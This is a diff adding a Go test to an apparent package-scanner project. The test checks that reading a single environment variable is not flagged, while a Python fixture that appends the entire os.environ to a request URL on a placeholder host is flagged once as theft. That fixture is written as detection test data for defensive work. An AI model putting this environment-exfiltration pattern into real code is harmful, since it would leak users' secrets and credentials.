@@ -69,6 +69,24 @@ func TestBenignShapesStayBelowHigh(t *testing.T) {
 	}
 }
 
+func TestAskingForAVariableReadsNoEnvironment(t *testing.T) {
+	for root, want := range map[string]int{
+		"'https://shop.example.invalid' if 'SHOP_ROOT' not in os.environ else os.environ['SHOP_ROOT']": 0,
+		"'https://shop.example.invalid/?' + str(os.environ)":                                           1,
+	} {
+		text := "import os\nimport requests\nROOT = " + root + "\nsession = requests.Session()\n\ndef orders(number):\n    url = f'{ROOT}/orders/{number}'\n    return session.get(url).json()\n"
+		found := 0
+		for _, f := range Examine(&Package{Name: "shop", Entries: []Entry{{Path: "shop/orders.py", Data: []byte(text), Size: int64(len(text))}}}).Findings {
+			if f.About.ID == "malicious-theft" {
+				found++
+			}
+		}
+		if found != want {
+			t.Errorf("%s: %d findings, want %d", root, found, want)
+		}
+	}
+}
+
 func TestPicklesAreReadNotLoaded(t *testing.T) {
 	for _, test := range []struct {
 		pickle string
